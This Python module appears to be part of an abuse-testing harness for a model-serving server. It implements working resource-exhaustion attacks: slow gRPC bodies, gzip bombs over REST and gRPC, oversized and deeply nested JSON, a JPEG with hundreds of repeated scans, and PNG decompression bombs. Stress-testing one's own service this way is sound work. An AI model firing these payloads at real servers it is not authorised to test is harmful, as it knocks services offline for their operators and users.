"""Attacks with request bodies: slow, compressed, broken or nested ones, and hostile images."""

import gzip
import io
import struct
import time
import zlib

import numpy as np
from abuse.attacks import wire
from abuse.attacks.attacker import Counts, Target
from PIL import Image

from serving.client import predict_request
from serving.protos.tensorflow_example_pb2 import Example
from serving.protos.tensorflow_serving_pb2 import ClassificationRequest

BOMB_BYTES = 62 << 20  # far under --max_message_bytes
_JSON_PATH = "/v1/models/identity:predict"


def http1_posts(target: Target, path: str, body: bytes, count: int, headers: bytes = b"") -> Counts:
    """Send a body on `count` connections at the same time, and count the answers."""
    head = b"POST %s HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n%s"
    head = head % (path.encode(), headers) + b"content-length: %d\r\n\r\n" % len(body)
    opened = []
    answered = failed = 0
    for _ in range(count):
        if not target.left():
            break
        try:
            connection = wire.connect(target.address)
            opened.append(connection)
            connection.settimeout(max(target.left(), 0.5))
            connection.sendall(head + body)
        except OSError:
            failed += 1
    for connection in opened:
        try:
            connection.settimeout(max(0.05, target.left()))
            answered += connection.recv(1 << 16).startswith(b"HTTP/1.1")
        except OSError:
            failed += 1
        wire.hang_up(connection)
    return {"requests": len(opened), "answered": answered, "failed or late": failed}


def grpc_calls(
    target: Target,
    path: str,
    message: bytes,
    count: int,
    *,
    compressed: bool = False,
    extra: tuple[tuple[str, str], ...] = (),
) -> Counts:
    """Make `count` concurrent calls on one connection, repeatedly until the attack ends."""
    fields = wire.grpc_fields(path, extra)
    body = wire.grpc_body(message, compressed=compressed)
    asked = answered = closed = 0
    while target.left():
        connection = None
        try:
            connection = wire.Connection(target.address)
            streams = []
            for _ in range(count):
                streams.append(connection.request(fields, body))
                asked += 1
                if not target.left():
                    break
            answered += connection.answers(streams, target.until)
        except OSError:
            closed += 1
            time.sleep(0.05)
        finally:
            if connection is not None:
                connection.close()
    return {"calls": asked, "answered": answered, "closed by the server": closed}


def slow_bodies(target: Target) -> Counts:
    """Send 200 requests on two connections, with one byte of each body every two seconds."""
    body = wire.grpc_body(
        predict_request("identity", {"x": np.ones((1, 3), np.float32)}).SerializeToString()
    )
    streams = []
    for _ in range(2):
        connection = wire.Connection(target.address)
        fields = wire.grpc_fields(wire.PREDICT)
        streams += [(connection, connection.request(fields, ends=False)) for _ in range(100)]
    sent = 0
    for byte in body:
        for connection, stream in streams:
            connection.socket.sendall(wire.frame(wire.DATA, bytes([byte]), stream=stream))
            sent += 1
        time.sleep(min(2, target.left()))
        if not target.left():
            break
    return {"requests": len(streams), "bytes": sent}


def _compressed_spaces() -> bytes:
    """Return 62 MiB of spaces, compressed to 61 kB: JSON may begin with any number of spaces."""
    return gzip.compress(b" " * BOMB_BYTES, 9)


def gzip_rest(target: Target) -> Counts:
    """Send 50 bodies of 61 kB that inflate to 62 MiB each."""
    bomb = _compressed_spaces()
    return http1_posts(target, _JSON_PATH, bomb, 50, b"content-encoding: gzip\r\n") | {
        "bytes of each": len(bomb)
    }


def gzip_grpc(target: Target) -> Counts:
    """Send compressed gRPC messages, 50 at a time: a Predict with a model name of 62 MiB."""
    name = b"a" * (BOMB_BYTES - 100)
    spec = b"\x0a" + _varint(len(name)) + name
    bomb = gzip.compress(b"\x0a" + _varint(len(spec)) + spec, 9)
    extra = (("grpc-encoding", "gzip"),)
    return grpc_calls(target, wire.PREDICT, bomb, 50, compressed=True, extra=extra)


def _varint(value: int) -> bytes:
    content = bytearray()
    while value >= 128:
        content.append(value % 128 | 128)
        value //= 128
    content.append(value)
    return bytes(content)


def bad_json(target: Target) -> Counts:
    """Send two JSON bodies of 62 MiB that are invalid only at their last byte."""
    row = b"[1,2,3],"
    body = b'{"instances": [' + row * ((BOMB_BYTES - 20) // len(row)) + b"}"
    return http1_posts(target, _JSON_PATH, body, 2)


def nested_json(target: Target) -> Counts:
    """Send JSON lists nested 100,000 and 1,500,000 deep, and objects nested 40,000 deep."""
    bodies = (
        b'{"instances": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        b'{"instances": ' + b"[" * 1_500_000,
        b'{"instances": ' + b'{"a":' * 40_000 + b"1" + b"}" * 40_000 + b"}",
    )
    total: Counts = {}
    while target.left() and total.get("requests", 0) < 200:
        for body in bodies:
            for name, count in http1_posts(target, _JSON_PATH, body, 3).items():
                total[name] = total.get(name, 0) + count
    return total


def _classify(picture: bytes) -> bytes:
    example = Example()
    example.features.feature["image/encoded"].bytes_list.value.append(picture)
    request = ClassificationRequest()
    request.model_spec.name = "pictures"
    request.model_spec.signature_name = "classify"
    request.input.example_list.examples.add().CopyFrom(_same_bytes(request, example))
    return request.SerializeToString()


def _same_bytes(request: ClassificationRequest, example: Example) -> object:
    """Convert an Example to the request's message class: their descriptor pools may differ."""
    return type(request.input.example_list.examples.add()).FromString(example.SerializeToString())


def _many_scans(scans: int) -> bytes:
    """Return a progressive JPEG of 1,000 x 1,000 pixels whose last scan is repeated."""
    noise = np.random.default_rng(0).integers(0, 256, (125, 125), np.uint8)
    file = io.BytesIO()
    picture = Image.fromarray(np.kron(noise, np.ones((8, 8), np.uint8)))
    picture.save(file, "JPEG", progressive=True, quality=30)
    content = file.getvalue()
    start = content.rindex(b"\xff\xda")
    return content[:start] + content[start:-2] * scans + content[-2:]


def jpeg_scans(target: Target) -> Counts:
    """Send a JPEG with 800 scans, each of which covers the whole image."""
    picture = _many_scans(800)
    counts = grpc_calls(target, wire.CLASSIFY, _classify(picture), 4)
    return counts | {"kB of each": len(picture) // 1000}


def _chunk(kind: bytes, content: bytes) -> bytes:
    checksum = zlib.crc32(kind + content)
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", checksum)


def _png(width: int, height: int, *before: bytes) -> bytes:
    """Return a greyscale PNG of zeros; `before` are chunks to insert before the pixels."""
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    rows = zlib.compressobj(9)
    pixels = b"".join(rows.compress(bytes(1 + width)) for _ in range(height)) + rows.flush()
    parts = [b"\x89PNG\r\n\x1a\n", head, *before, _chunk(b"IDAT", pixels), _chunk(b"IEND", b"")]
    return b"".join(parts)


def png_bomb(target: Target) -> Counts:
    """Send PNGs with 144 million pixels, with the largest allowed size, and with 62 MiB of text."""
    text = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"a" * BOMB_BYTES, 9))
    pictures = (_png(12_000, 12_000), _png(4096, 4096), _png(32, 32, text))
    total: Counts = {}
    for picture in pictures:
        until = time.monotonic() + target.left() / 2
        part = Target(target.address, until, target.models_dir)
        for name, count in grpc_calls(part, wire.CLASSIFY, _classify(picture), 8).items():
            total[name] = total.get(name, 0) + count
    return total


ATTACKS = {
    "slow_bodies": slow_bodies,
    "gzip_rest": gzip_rest,
    "gzip_grpc": gzip_grpc,
    "bad_json": bad_json,
    "nested_json": nested_json,
    "jpeg_scans": jpeg_scans,
    "png_bomb": png_bomb,
}
